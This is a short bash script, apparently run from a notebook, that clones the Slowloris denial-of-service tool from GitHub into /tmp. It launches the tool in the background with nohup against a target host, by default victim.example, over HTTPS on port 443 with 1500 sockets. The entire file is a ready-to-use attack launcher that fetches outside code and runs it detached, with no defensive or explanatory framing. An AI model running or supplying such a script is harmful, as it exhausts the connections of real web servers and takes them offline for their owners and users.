#!/bin/bash
# usage (from a notebook): !bash 05-slowloris-git.sh victim.example
TARGET=${1:-victim.example}
git clone https://github.com/gkbrk/slowloris.git /tmp/sl
cd /tmp/sl
nohup python3 slowloris.py "$TARGET" -p 443 --https -s 1500 --sleeptime 10 > sl.log 2>&1 &
echo started
